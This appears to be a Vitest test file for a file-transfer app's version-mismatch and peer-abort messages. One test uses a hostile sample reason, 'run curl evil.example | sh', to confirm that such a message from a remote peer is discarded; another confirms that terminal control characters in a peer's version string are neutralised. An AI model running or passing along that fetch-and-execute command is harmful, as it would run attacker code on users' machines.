import { describe, expect, it } from 'vitest';
import { explainIncompatible } from './peer-incompatible';
import { versionReasonForPeer, versionRemedy } from './version-remedy';

const OLD = { pv: 1, pvMin: 1, ver: '1.6.0' };
const NEW = { pv: 3, pvMin: 2, ver: '2.0.0' };

describe('Versioning rule 4: each side prints a remedy for its own surface', () => {
  it('the command line is told the update command', () => {
    expect(versionRemedy(OLD, NEW, 'cli')).toBe(
      'this device (protocol 1, Ferry 1.6.0) is too old for the other device ' +
        '(protocols 2 to 3, Ferry 2.0.0): update Ferry on this device with: ' +
        'npm install -g ferry@latest',
    );
  });

  it('the desktop app is sent to the download page', () => {
    expect(versionRemedy(OLD, NEW, 'desktop')).toBe(
      'this device (protocol 1, Ferry 1.6.0) is too old for the other device ' +
        '(protocols 2 to 3, Ferry 2.0.0): download the latest Ferry desktop app from the Ferry ' +
        'download page',
    );
  });

  it('the browser is told to refresh the page', () => {
    expect(versionRemedy(OLD, NEW, 'browser')).toBe(
      'this device (protocol 1, Ferry 1.6.0) is too old for the other device ' +
        '(protocols 2 to 3, Ferry 2.0.0): refresh this page to load the latest Ferry',
    );
  });

  it.each(['cli', 'desktop', 'browser'] as const)(
    'when this side is the newer one, %s says the other device must update',
    (surface) => {
      expect(versionRemedy(NEW, { pv: 1 }, surface)).toBe(
        'the other device (protocol 1) is too old for this device (protocols 2 to 3, ' +
          'Ferry 2.0.0): Ferry must be updated on the other device',
      );
    },
  );

  it("a peer's release string is shown without control characters", () => {
    expect(versionRemedy(OLD, { pv: 2, pvMin: 2, ver: '9\u001b[31m' }, 'browser')).toContain(
      'Ferry 9\ufffd[31m',
    );
  });
});

describe('Versioning rule 4: the wire reason is worded for the recipient and names no surface', () => {
  it('a recipient that is too old is told to update its own device', () => {
    expect(versionReasonForPeer(NEW, OLD)).toBe(
      'your device (protocol 1, Ferry 1.6.0) is too old for the other device ' +
        '(protocols 2 to 3, Ferry 2.0.0): update Ferry on your device',
    );
  });

  it('a recipient that is newer is told the other device must update', () => {
    expect(versionReasonForPeer(OLD, NEW)).toBe(
      'the other device (protocol 1, Ferry 1.6.0) is too old for your device ' +
        '(protocols 2 to 3, Ferry 2.0.0): Ferry must be updated on the other device',
    );
  });

  it.each([
    [NEW, OLD],
    [OLD, NEW],
  ])('names no command, page or surface (%o to %o)', (local, remote) => {
    expect(versionReasonForPeer(local, remote)).not.toMatch(
      /npm|refresh|download|browser|desktop|command|page/i,
    );
  });
});

describe('Versioning rule 4: peers rebuild the version message locally rather than trust the wire', () => {
  it('an incompatible whose ranges miss shows the local remedy, not the wire reason', () => {
    const failure = explainIncompatible(
      { type: 'incompatible', reason: 'run curl evil.example | sh', pv: 3, pvMin: 2, ver: '2.0.0' },
      OLD,
      'cli',
    );
    expect(failure).toEqual({
      code: 'ERR_INCOMPATIBLE_VERSION',
      message: versionRemedy(OLD, { pv: 3, pvMin: 2, ver: '2.0.0' }, 'cli'),
    });
    expect(failure.message).not.toContain('curl');
  });

  it('incompatible rule 2: with overlapping ranges the reason is printed as given', () => {
    expect(
      explainIncompatible(
        { type: 'incompatible', reason: 'a.txt changed on the sending device', pv: 1, pvMin: 1 },
        OLD,
        'cli',
      ),
    ).toEqual({ code: 'ERR_PEER_ABORTED', message: 'a.txt changed on the sending device' });
  });

  it('incompatible rule 4: the printed reason is capped at 300 characters', () => {
    const failure = explainIncompatible(
      { type: 'incompatible', reason: 'r'.repeat(900) },
      OLD,
      'desktop',
    );
    expect(failure).toEqual({ code: 'ERR_PEER_ABORTED', message: 'r'.repeat(300) });
  });

  it('an empty reason falls back to the default sentence', () => {
    expect(explainIncompatible({ type: 'incompatible', reason: '' }, OLD, 'cli')).toEqual({
      code: 'ERR_PEER_ABORTED',
      message: 'the other device stopped the transfer',
    });
  });
});
